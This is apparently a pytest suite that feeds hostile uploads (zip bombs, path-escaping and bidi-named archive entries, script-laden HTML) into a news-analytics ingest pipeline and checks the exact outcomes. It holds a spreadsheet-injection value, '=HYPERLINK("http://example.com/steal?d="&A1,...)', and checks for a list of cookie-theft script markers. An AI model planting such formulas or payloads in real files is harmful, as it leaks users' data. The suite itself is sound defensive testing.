"""Hostile and edge-case files (built by ``tests/hostile/files.py``) through the real upload
path, ``dashboard.data.read_uploads`` with the settings' caps, and the ingest pipeline into a
fresh SQLite store, with the exact outcome of each; after each one, a good file still reads."""

from __future__ import annotations

import datetime as dt
import io
import time
import zipfile
from pathlib import Path

import pytest
from hostile import files
from hostile.files import CASES, GOOD_TEXT, PARAGRAPHS, TITLE, Case
from spacy.language import Language
from sqlalchemy import Engine

from analytics import readers, store
from analytics.models import Article, ReadError, ReadOutcome
from analytics.pipeline import ingest_outcomes
from analytics.readers import Limits, detect_format, read_upload, read_upload_parts
from analytics.settings import Settings, load_settings
from dashboard import data as dashboard_data

LIMIT_VARIABLES = (
    "NEWS_MAX_UPLOAD_MB",
    "NEWS_MAX_FILES",
    "NEWS_MAX_ARTICLE_CHARS",
    "NEWS_MAX_ARCHIVE_ENTRIES",
    "NEWS_MAX_UNCOMPRESSED_MB",
    "NEWS_MAX_COMPRESSION_RATIO",
    "NEWS_MAX_ARCHIVE_DEPTH",
    "NEWS_PARSE_TIMEOUT_S",
    "NEWS_PARSE_MEMORY_MB",
)
GOOD_PDF = files.text_pdf([["A good report", None, "The next upload works as before."]])


@pytest.fixture
def settings_env(monkeypatch: pytest.MonkeyPatch) -> pytest.MonkeyPatch:
    """The default limits, whatever the environment running the tests sets."""
    for variable in LIMIT_VARIABLES:
        monkeypatch.delenv(variable, raising=False)
    return monkeypatch


def rows(engine: Engine, nlp: Language, outcomes: list[ReadOutcome]) -> list[tuple[str, ...]]:
    return [
        (result.name, result.status, result.reason)
        for result in ingest_outcomes(engine, nlp, outcomes)
    ]


@pytest.mark.parametrize("case", CASES, ids=[case.id for case in CASES])
def test_hostile_file(
    case: Case, settings_env: pytest.MonkeyPatch, engine: Engine, nlp: Language
) -> None:
    for variable, value in case.env.items():
        settings_env.setenv(variable, value)
    data = case.build()

    started = time.perf_counter()
    outcomes = dashboard_data.read_uploads(((case.name, data),))
    seconds = time.perf_counter() - started

    assert rows(engine, nlp, outcomes) == list(case.expected(data))
    assert seconds < 15, f"{case.id} took {seconds:.1f} s"
    # The single-outcome API agrees: the same outcome, or the entries' articles put together.
    merged = read_upload(case.name, data, limits=load_settings())
    if len(outcomes) == 1 and outcomes[0].name == case.name:
        assert merged == outcomes[0]
    else:
        assert merged.articles == tuple(a for outcome in outcomes for a in outcome.articles)
    # The next upload works as if nothing had happened (a PDF: through the worker process).
    (after,) = dashboard_data.read_uploads((("after.pdf", GOOD_PDF),))
    assert (after.error, [a.title for a in after.articles]) == ("", ["A good report"])


# --- what the accepted files hold -------------------------------------------------------------


def only_article(outcome: ReadOutcome) -> Article:
    assert outcome.error == ""
    (article,) = outcome.articles
    return article


def test_pdf_pages_paragraphs_and_title(settings_env: pytest.MonkeyPatch) -> None:
    article = only_article(read_upload("report.pdf", files.two_page_pdf()))
    assert article == Article(
        title=TITLE,
        body=(
            "The town council voted on Monday evening to build three new protected cycle lanes "
            "along the river, after a debate that lasted four hours.\n\n"
            "Supporters said the lanes would make the daily commute safer for children riding "
            "to school, while shop owners worried about parking spaces.\n\n"
            "Construction is expected to begin in the spring and to finish before the end of "
            "next year, according to the council's transport officer."
        ),
        file_name="report.pdf",
    )


def test_pdf_title_from_first_line_when_metadata_has_none(settings_env: pytest.MonkeyPatch) -> None:
    data = files.text_pdf([[TITLE, None, PARAGRAPHS[0]]], title="Microsoft Word - draft.docx")
    article = only_article(read_upload("report.pdf", data))
    assert (article.title, article.body) == (TITLE, PARAGRAPHS[0])


def test_pdf_in_two_columns_is_read_column_by_column(settings_env: pytest.MonkeyPatch) -> None:
    left = ["The left column starts here and", "goes on for a few lines of text", "to its end."]
    right = ["The right column is read after", "the left one, not mixed with it", "line by line."]
    ops = [b"BT /F1 10 Tf 12 TL 50 700 Td"]
    ops += [files._pdf_string(line) + b" Tj T*" for line in left]
    ops += [b"ET BT /F1 10 Tf 12 TL 320 700 Td"]
    ops += [files._pdf_string(line) + b" Tj T*" for line in right]
    ops += [b"ET"]
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [4 0 R] /Count 1 >>",
        b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] "
        b"/Resources << /Font << /F1 3 0 R >> >> /Contents 5 0 R >>",
        files._stream(b"\n".join(ops)),
    ]
    article = only_article(read_upload("columns.pdf", files._pdf_file(objects)))
    assert " ".join(article.body.split()) == " ".join(left + right)


def test_docx_title_paragraphs_and_date(settings_env: pytest.MonkeyPatch) -> None:
    created = dt.datetime(2024, 11, 5, 9, 30, tzinfo=dt.UTC)
    article = only_article(read_upload("council.docx", files.docx_document(created=created)))
    assert article == Article(
        title=TITLE,
        body="\n\n".join(PARAGRAPHS),
        published=created.date(),
        file_name="council.docx",
    )


def test_docx_title_from_properties_and_template_date_ignored(
    settings_env: pytest.MonkeyPatch,
) -> None:
    data = files.docx_document(heading=None, core_title="From the properties")
    article = only_article(read_upload("council.docx", data))
    # python-docx's template says it was created on 2013-12-23: not a publication date.
    assert (article.title, article.body, article.published) == (
        "From the properties",
        "\n\n".join(PARAGRAPHS),
        None,
    )


def test_zip_entries_are_named_and_normalised(settings_env: pytest.MonkeyPatch) -> None:
    outcomes = read_upload_parts("mixed.zip", files.zip_mixed())
    by_name = {outcome.name: outcome for outcome in outcomes}
    assert only_article(by_name["mixed.zip/etc/escape.txt"]).file_name == (
        "mixed.zip/etc/escape.txt"
    )
    assert [a.file_name for a in by_name["mixed.zip/batch/rows.csv"].articles] == [
        "mixed.zip/batch/rows.csv#row 1",
        "mixed.zip/batch/rows.csv#row 2",
    ]
    assert only_article(by_name["mixed.zip/batch/letter.docx"]).title == (
        "A letter from the council"
    )
    assert not any("__MACOSX" in name or ".DS_Store" in name for name in by_name)


def test_zip_as_one_outcome_lists_the_bad_entries_as_warnings(
    settings_env: pytest.MonkeyPatch,
) -> None:
    outcome = read_upload("mixed.zip", files.zip_mixed())
    assert len(outcome.articles) == 8
    assert outcome.warnings == (
        f"mixed.zip/batch/photo.txt: {files.PNG_MESSAGE}",
        "mixed.zip/batch/empty.txt: the file is empty",
        "mixed.zip/bidi/?txt.exe: this file is not a supported type (.exe files cannot be "
        f"read); {files.SUPPORTED}",
    )


def test_zip_with_no_readable_entry_is_rejected_as_one(settings_env: pytest.MonkeyPatch) -> None:
    data = files.zip_of({"a.png": files.png(), "b.txt": b""})
    assert read_upload("pics.zip", data) == ReadOutcome(
        "pics.zip",
        error="none of the files in the archive could be read",
        warnings=(f"pics.zip/a.png: {files.PNG_MESSAGE}", "pics.zip/b.txt: the file is empty"),
    )


def test_no_sentence_punctuation_is_stored_with_reliability_flags(
    settings_env: pytest.MonkeyPatch, engine: Engine, nlp: Language
) -> None:
    outcomes = dashboard_data.read_uploads((("notes.txt", files.no_punctuation_text()),))
    (result,) = ingest_outcomes(engine, nlp, outcomes)
    flags = store.flag_table(engine)
    reasons = flags.loc[flags["article_id"] == result.article_id, "reason"]
    assert result.status == "added"
    assert reasons.str.contains("no sentence punctuation").any()


def test_formula_title_is_stored_verbatim(
    settings_env: pytest.MonkeyPatch, engine: Engine, nlp: Language
) -> None:
    outcomes = dashboard_data.read_uploads((("formula.csv", files.formula_csv()),))
    (result,) = ingest_outcomes(engine, nlp, outcomes)
    detail = store.article_detail(engine, result.article_id)
    assert detail is not None
    assert detail["title"] == '=HYPERLINK("http://example.com/steal?d="&A1,"Click me")'


def test_script_and_event_handlers_are_not_in_the_body(
    settings_env: pytest.MonkeyPatch, engine: Engine, nlp: Language
) -> None:
    outcomes = dashboard_data.read_uploads((("page.html", files.script_html()),))
    (result,) = ingest_outcomes(engine, nlp, outcomes)
    detail = store.article_detail(engine, result.article_id)
    assert detail is not None
    body = detail["body"]
    assert "Residents can comment until the end of the month." in body
    for script in ("document.cookie", "evil.example", "alert", "onerror", "<script"):
        assert script not in body


def test_too_many_files_in_one_upload(settings_env: pytest.MonkeyPatch) -> None:
    settings_env.setenv("NEWS_MAX_FILES", "2")
    uploads = tuple((f"{n}.txt", GOOD_TEXT.encode()) for n in range(3))
    message = "too many files in one upload: 3; the limit is 2 (NEWS_MAX_FILES)"
    assert dashboard_data.read_uploads(uploads) == [
        ReadOutcome(f"{n}.txt", error=message) for n in range(3)
    ]


# --- limits, content sniffing and the API -----------------------------------------------------


def test_settings_have_the_limits_with_defaults() -> None:
    settings = load_settings({})
    assert isinstance(settings, Limits)  # the settings carry the limits, one definition
    assert (
        settings.max_upload_mb,
        settings.max_files,
        settings.max_article_chars,
        settings.max_archive_entries,
        settings.max_uncompressed_mb,
        settings.max_compression_ratio,
        settings.max_archive_depth,
        settings.parse_timeout_s,
        settings.parse_memory_mb,
    ) == (50, 200, 1_000_000, 500, 200, 100, 2, 20, 1024)
    assert load_settings({"NEWS_PARSE_TIMEOUT_S": "2.5", "NEWS_MAX_ARCHIVE_DEPTH": "1"}) == (
        Settings(
            db_url=settings.db_url,
            spacy_model=settings.spacy_model,
            data_dir=settings.data_dir,
            parse_timeout_s=2.5,
            max_archive_depth=1,
        )
    )


def test_read_upload_takes_settings_limits_or_the_old_keyword() -> None:
    data = f"Title\n\n{'word ' * 20}".encode()
    message = "the article has 99 characters; the limit is 50 (NEWS_MAX_ARTICLE_CHARS)"
    settings = load_settings({"NEWS_MAX_ARTICLE_CHARS": "50"})
    assert read_upload("a.txt", data, limits=settings).error == message
    assert read_upload("a.txt", data, limits=Limits(max_article_chars=50)).error == message
    assert read_upload("a.txt", data, max_article_chars=50).error == message
    assert read_upload("a.txt", data, limits=settings, max_article_chars=100).ok


def test_size_is_checked_first(settings_env: pytest.MonkeyPatch) -> None:
    data = files.png() + bytes(2 * files.MB)
    assert read_upload("photo.txt", data, limits=Limits(max_upload_mb=1)).error == (
        "the file is 2.0 MB; the limit is 1 MB (NEWS_MAX_UPLOAD_MB)"
    )


def test_size_just_over_the_limit_is_shown_in_bytes() -> None:
    data = b"x" * (files.MB + 1)
    assert read_upload("a.txt", data, limits=Limits(max_upload_mb=1)).error == (
        "the file is 1,048,577 bytes; the limit is 1 MB (1,048,576 bytes) (NEWS_MAX_UPLOAD_MB)"
    )


@pytest.mark.parametrize(
    ("name", "build", "expected"),
    [
        ("report.pdf", files.two_page_pdf, "pdf"),
        ("report.txt", files.two_page_pdf, "pdf"),
        ("report", files.two_page_pdf, "pdf"),
        ("report.pdf", lambda: b"\n\n" + files.two_page_pdf(), "pdf"),
        ("letter.docx", files.docx_document, "docx"),
        ("letter.zip", files.docx_document, "zip"),
        ("articles.zip", lambda: files.zip_of({"a.txt": b"A"}), "zip"),
        ("articles.txt", lambda: files.zip_of({"a.txt": b"A"}), "zip"),
    ],
)
def test_detect_format_by_content(name: str, build: object, expected: str) -> None:
    assert callable(build)
    assert detect_format(name, build()) == expected


def test_zip_entry_is_read_in_chunks_and_stopped_at_the_running_total() -> None:
    # Python's zipfile never returns more than an entry declares, and declared sizes are
    # checked first; the running total is the last line of defence, checked here directly.
    data = files.zip_of({"a.txt": b"x" * (3 * files.MB)}, compression=zipfile.ZIP_STORED)
    limits = Limits()
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        (info,) = archive.infolist()
        budget = readers._Budget(entries=10, bytes=2 * files.MB)
        with pytest.raises(readers.ArchiveRejected) as error:
            readers._read_member(archive, info, "a.zip/a.txt", limits, budget)
    assert str(error.value) == (
        "the archive expands to more than 200 MB when decompressed; the limit is 200 MB in "
        "total (NEWS_MAX_UNCOMPRESSED_MB)"
    )


def test_read_articles_reads_zip_in_process_with_default_limits() -> None:
    data = files.zip_of({"a.txt": GOOD_TEXT.encode(), "b.png": files.png()})
    warnings: list[str] = []
    articles = readers.read_articles("zip", "a.zip", data, warnings=warnings)
    assert [article.file_name for article in articles] == ["a.zip/a.txt"]
    assert warnings == [f"a.zip/b.png: {files.PNG_MESSAGE}"]
    with pytest.raises(ReadError, match="the archive has 501 entries"):
        readers.read_articles("zip", "many.zip", files.zip_many_entries())


def test_read_path_reads_pdf_docx_and_zip_files(tmp_path: Path) -> None:
    (tmp_path / "a.pdf").write_bytes(files.two_page_pdf())
    (tmp_path / "b.docx").write_bytes(files.docx_document())
    (tmp_path / "c.zip").write_bytes(files.nested_zip(2))
    (tmp_path / "d.txt").write_bytes(b"x" * (files.MB + 1))
    outcomes = list(readers.read_path(tmp_path, limits=Limits(max_upload_mb=1)))
    assert [(outcome.name, outcome.error) for outcome in outcomes] == [
        ("a.pdf", ""),
        ("b.docx", ""),
        ("c.zip/level1.zip/story.txt", ""),
        (
            "d.txt",
            "the file is 1,048,577 bytes; the limit is 1 MB (1,048,576 bytes) (NEWS_MAX_UPLOAD_MB)",
        ),
    ]


def test_zip_bomb_is_rejected_fast_without_decompressing(settings_env: pytest.MonkeyPatch) -> None:
    data = files.zip_bomb(200)
    read_upload("warm-up.pdf", GOOD_PDF)  # a warm worker, as in a running server
    started = time.perf_counter()
    outcome = read_upload("bomb.zip", data)
    seconds = time.perf_counter() - started
    assert "like a zip bomb" in outcome.error
    assert seconds < 1.0
